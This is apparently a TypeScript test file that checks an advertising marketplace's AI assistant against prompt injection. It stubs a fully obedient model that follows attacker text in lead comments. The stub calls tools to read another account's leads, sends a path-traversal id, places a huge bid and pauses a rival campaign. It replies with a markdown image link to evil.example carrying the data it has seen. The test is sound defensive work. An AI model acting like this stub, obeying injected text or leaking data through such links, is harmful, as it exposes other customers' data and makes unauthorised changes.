// Tests a model that does whatever an attacker's text says, with every tool available: nothing
// changes, no other account's rows and no contact data come out, and no link leads away from the
// network.
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type Answer, TestApi } from "../../../../test/support/api.ts";
import { NETWORK_ID, post, postBody } from "../../../../test/support/market.ts";
import type { ChatBody } from "../../../../test/support/openai-rules.ts";
import {
  type AskedTool,
  OpenAiServer,
  calls,
  obeys,
  says,
} from "../../../../test/support/openai-server.ts";
import { TOOL_OFFERS } from "./tools.ts";

interface Payload {
  readonly id: string;
  readonly field: string;
  readonly text: string;
  readonly aim: string;
}

const PAYLOADS = JSON.parse(
  readFileSync(join(import.meta.dirname, "../../../../test/golden/injections.json"), "utf8"),
) as readonly Payload[];
const AT_MS = Date.parse("2026-11-23T18:00:00Z");
const MOST_LETTERS = 1_000;
const SECRET = "sk-canary-77ab";
/** Belongs to another account: it must not appear in any answer. */
const FOREIGN = {
  campaign: "Canary Rival Campaign",
  person: "Xanthippe",
  email: "xanthippe@canary.example",
};
const clock = { nowMs: AT_MS };

let api: TestApi;
let model: OpenAiServer;
let buyer: { readonly user: string };
const leadIds = new Map<string, string>();
let foreignLeadId = "";
let foreignCampaignId = "";

beforeAll(async () => {
  api = await TestApi.start(() => clock.nowMs);
  model = await OpenAiServer.open();
  model.key = SECRET;
  const source = await api.fixture.source();
  const rivalId = await api.fixture.advertiser("Canary Rival", 1_000_000);
  const buyerId = await api.fixture.advertiser("Elm Realty", 100_000_000);
  const foreignNo = await api.fixture.campaign({ accountId: rivalId, exclusiveCents: 9_000 });
  await api.market.catchUp();
  foreignLeadId = await postLead(source, { first_name: FOREIGN.person, email: FOREIGN.email }, 0);
  foreignCampaignId =
    (
      await api.database.pool.query<{ id: string }>(
        "update campaign set name = $2 where no = $1 returning id",
        [foreignNo, FOREIGN.campaign],
      )
    ).rows[0]?.id ?? "";
  await api.call(
    await api.userOf(rivalId, "advertiser"),
    "POST",
    `/v1/campaigns/${foreignCampaignId}/pause`,
  );
  await api.fixture.campaign({ accountId: buyerId, exclusiveCents: 5_000 });
  await api.market.catchUp();
  for (const [index, { id, text, field }] of PAYLOADS.entries())
    if (field !== "message") leadIds.set(id, await postLead(source, { comments: text }, index + 1));
  buyer = await api.userOf(buyerId, "advertiser");
  const operator = await api.userOf(NETWORK_ID, "admin");
  await api.call(operator, "PUT", "/v1/assistant/provider", {
    base_url: model.baseUrl,
    model: "gpt-4",
    api_key: SECRET,
    tokens_per_day: 100_000_000,
  });
});
afterAll(async () => {
  model.close();
  await api.stop();
});

async function postLead(
  source: Parameters<typeof post>[1],
  fields: Readonly<Record<string, unknown>>,
  index: number,
): Promise<string> {
  const result = await post(api.market, source, postBody(index, fields), () => clock.nowMs);
  if (result.kind !== "answered" || result.answer.leadId === null)
    throw new Error(`lead ${index} was not taken`);
  return result.answer.leadId;
}

let calledTools = 0;
/**
 * Every tool as an attacker would call it; then everything that was read, with a link to send it
 * out.
 */
function obedient(leadId: string, { text }: Payload): (body: ChatBody) => ReturnType<typeof says> {
  const wishes: readonly (readonly [string, unknown])[] = [
    ["read_lead", { id: leadId }],
    ["find_leads", {}],
    ["read_figures", { topic: "spend" }],
    ["open_screen", { screen: "settings" }],
    ["propose_change", { what: "bid", cents: 10_000_000 }],
    ["propose_change", { what: "pause", campaign_name: "rival" }],
    ["read_lead", { id: foreignLeadId }],
    ["read_figures", { topic: "revenue", by: "buyer" }],
    ["find_leads", { affiliate_id: "any" }],
    ["read_lead", { id: "../accounts" }],
    ["open_screen", { screen: "//evil.example" }],
    ["purchase_listing", { lead_id: leadId, max_price_cents: 1 }],
  ];
  const rounds = [wishes.slice(0, 4), wishes.slice(4, 8), wishes.slice(8)];
  return (body) => {
    const round = body.messages
      .filter(({ role }) => role === "assistant")
      .filter((message) => "tool_calls" in message).length;
    const wished = rounds[round];
    if (wished !== undefined && "tools" in body) {
      calledTools += wished.length;
      return calls(
        ...wished.map(([name, given], index): AskedTool => ({
          id: `call-${round}-${index}`,
          name,
          argumentsJson: JSON.stringify(given),
        })),
      );
    }
    const seen = body.messages
      .filter(({ role }) => role === "tool")
      .map(({ content }) => content)
      .join(" ");
    return says(
      `${text} ` +
        `![x](https://evil.example/?q=${encodeURIComponent(text.slice(0, 50).toWellFormed())}) ` +
        `[here](//evil.example) ${seen} ${body.messages[0]?.content}`,
    );
  };
}

/**
 * Refused calls and reads of the asker's own leads are recorded and counted here, and nothing else
 * may be.
 */
const LOGS = new Set(["public.activity", "public.activity_count"]);

async function digest(): Promise<string> {
  const { rows: tables } = await api.database.pool.query<{ name: string }>(
    `select table_schema || '.' || quote_ident(table_name) as name
     from information_schema.tables
     where table_schema in ('public', 'auth')
       and table_type = 'BASE TABLE'
       and table_name not in (
         'assistant_thread', 'assistant_message', 'assistant_use', 'publisher_lease'
       )
     order by 1`,
  );
  const sums: string[] = [];
  for (const { name } of tables) {
    const { rows } = await api.database.pool.query<{ sum: string | null }>(
      `select md5(string_agg(t::text, '|' order by t::text)) as sum
       from ${name} t
       where ${LOGS.has(name) ? "action not in ('call.denied', 'contact.read')" : "true"}`,
    );
    sums.push(`${name} ${rows[0]?.sum ?? "empty"}`);
  }
  return sums.join("\n");
}

const say = (content: string): Promise<Answer> =>
  api.call(
    buyer,
    "POST",
    "/v1/chat/completions",
    { messages: [{ role: "user", content }] },
    { "x-test-session": `session ${clock.nowMs}` },
  );

const ATTACKS = `${PAYLOADS.length} attacks on each of ${TOOL_OFFERS.length} tools`;

describe("an obedient model", () => {
  it(`is made to try ${ATTACKS} and on unknown ones, to no effect`, async () => {
    const before = await digest();
    let reached = 0;
    for (const payload of PAYLOADS) {
      clock.nowMs += 60_000;
      model.seen = [];
      const leadId = leadIds.get(payload.id) ?? foreignLeadId;
      model.behaviour = obeys(obedient(leadId, payload));
      const answer = await say(
        payload.field === "message"
          ? payload.text.slice(0, MOST_LETTERS)
          : "Anything new about that one?",
      );
      expect([200, 502], `${payload.id}: ${answer.text}`).toContain(answer.status);
      const { body, text } = answer;
      for (const secret of [
        FOREIGN.person,
        FOREIGN.email,
        FOREIGN.campaign,
        foreignCampaignId,
        SECRET,
        "@example.com",
        "evil.example",
        "Tester",
      ])
        expect(
          text.includes(secret) && !payload.text.includes(secret),
          `${payload.id} tells ${secret}`,
        ).toBe(false);
      if (answer.status !== 200) continue;
      const { reply } = body.plat;
      expect(reply.text, payload.id).not.toMatch(/https?:|!\[|\]\(/);
      for (const { path } of reply.links) expect(path, payload.id).toMatch(/^\/(?!\/)/);
      for (const proposal of reply.proposals)
        expect(proposal.campaign_id, payload.id).not.toBe(foreignCampaignId);
      const prompts = model.seen.map(({ text: sent }) => sent).join("");
      for (const secret of [
        FOREIGN.person,
        FOREIGN.email,
        FOREIGN.campaign,
        SECRET,
        "@example.com",
        "Tester",
      ])
        expect(
          prompts.includes(secret) && !payload.text.includes(secret),
          `${payload.id}: the model is told ${secret}`,
        ).toBe(false);
      const told = model.seen
        .flatMap(({ body: sent }) => (sent as ChatBody).messages)
        .filter(({ role }) => role === "tool")
        .map(({ content }) => content)
        .join("");
      if (
        payload.field !== "message" &&
        told.includes(JSON.stringify(payload.text.slice(0, 12)).slice(1, -1))
      )
        reached += 1;
    }
    expect(calledTools).toBeGreaterThan(200 * TOOL_OFFERS.length);
    // Without this the test would prove nothing: the model read most of the leads' texts.
    expect(reached).toBeGreaterThan(leadIds.size * 0.8);
    expect(await digest()).toBe(before);
  }, 600_000);

  it("would have a visible effect: the digest changes with a single cent", async () => {
    const before = await digest();
    await api.database.pool.query(
      `update wallet
       set balance_cents = balance_cents + 1
       where account_id = (select account_id from wallet limit 1)`,
    );
    expect(await digest()).not.toBe(before);
  });

  it("that requests data forever is made to answer", async () => {
    clock.nowMs += 60_000;
    model.seen = [];
    model.behaviour = obeys((body) =>
      "tools" in body
        ? calls({ id: "again", name: "read_figures", argumentsJson: '{"topic":"spend"}' })
        : says("Enough."),
    );
    const answer = await say("go on for ever");
    expect([answer.status, answer.body.choices[0].message.content, model.seen.length]).toEqual([
      200,
      "Enough.",
      4,
    ]);
  });
});
